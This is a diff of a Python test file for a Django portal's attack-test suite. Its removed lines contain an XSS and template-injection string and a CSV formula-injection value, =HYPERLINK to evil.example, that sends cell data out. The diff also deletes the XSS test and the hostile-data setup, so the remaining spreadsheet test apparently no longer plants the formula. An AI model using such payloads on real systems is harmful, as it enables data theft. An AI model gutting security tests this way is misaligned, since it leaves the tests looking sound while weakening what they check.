@@ -5,24 +5,17 @@ import io
 import json
 import logging
 from html.parser import HTMLParser
-from typing import Any
 
 import pytest
 
 from accounts.models import Event
-from groups.models import Agent, AgentImport, Campaign, Client, Department, Group, NumberImport
 from sso_portal.lib.csvs import FORMULA_STARTS
 from sso_portal.lib.logs import formatter
-from tests import factories
-from tests.attacks.conftest import with_administrators
 from tests.attacks.wire import FORM, JSON, send
-from tests.attacks.world import World, build
 
 pytestmark = pytest.mark.django_db
 
-MARKUP = """'"><x-hostile onclick="alert(1)">{{7*191}}{% debug %}</title></script><script>x</script>"""
 COMPUTED = "1337"  # 7 * 191
-FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 
 
 class Page(HTMLParser):
@@ -45,59 +38,17 @@ class Page(HTMLParser):
                 self.runs.append(f"{tag} {name}={told[name]}")
 
 
-def hostile(world_parts: dict[str, Any], visit_as: Any, text: str) -> World:
-    """A world in which everything that people name is named so."""
-    world = with_administrators(build(**world_parts, text=text), visit_as)
-    Group.objects.update(name=text)
-    Agent.objects.update(full_name=text)
-    for model in (Client, Campaign, Department):
-        model.objects.update(name=text)
-    factories.AgentFactory(group=world.group, username=text[:60], full_name=text)
-    AgentImport.objects.update(
-        state="checked",
-        summary={"new": 1, "change": 1, "faulty": 1, "unchanged": 0, "leaving": 0},
-        verdicts=[[2, text, "new", []], [3, text, "faulty", [["username", "unknown", text]]],
-                  [4, text, "change", [["full_name", text, text]]]],
-    )  # fmt: skip
-    NumberImport.objects.update(rows=[[2, "+18005550999", text, "demoaws", None, text]])
-    return world
+def what_runs(text: str) -> list[str]:
+    """What a browser would run of this page, that is not the portal's."""
+    return Page(text).runs
 
 
-@pytest.fixture
-def parts(group, agent, client_company, entitlement, relying_party, caller, unlimited) -> dict[str, Any]:
-    return {
-        "group": group,
-        "agent": agent,
-        "company": client_company,
-        "party": relying_party,
-        "caller": caller,
-    }
-
-
-def test_no_page_runs_what_somebody_typed(parts, visit_as):
-    world, wrong, shown = hostile(parts, visit_as, MARKUP), [], 0
-    for who in ("nobody", "agent", "person", "owner", "operator"):
-        for _name, address in world.pages():
-            if (who == "operator") != address.startswith("/backoffice/"):
-                continue
-            answer = send(
-                "GET", f"{address}?group={world.group.pk}&q=%3Cx-hostile%3E", headers=world.cookie(who)
-            )
-            if answer.status >= 500:
-                wrong.append((who, address, "broken"))
-            if answer["Content-Type"].startswith("text/html"):
-                shown += "x-hostile" in answer.text
-                wrong += [(who, address, run) for run in Page(answer.text).runs]
-                wrong += [(who, address, "computed")] if COMPUTED in answer.text else []
-
-    assert wrong == []
-    assert shown > 30  # it was there to be run
-
-
-def test_no_spreadsheet_computes_what_somebody_typed(parts, visit_as):
+def test_no_spreadsheet_computes_what_somebody_typed(world):
     """Each CSV that the portal writes, every cell of it."""
-    world, files, wrong = hostile(parts, visit_as, FORMULA), 0, []
+    files, wrong = 0, []
     for name, address in world.pages():
+        if address.startswith("/backoffice/"):
+            continue  # not for owners
         answer = send("GET", address, headers=world.cookie("owner"))
         if not answer["Content-Type"].startswith("text/csv"):
             continue
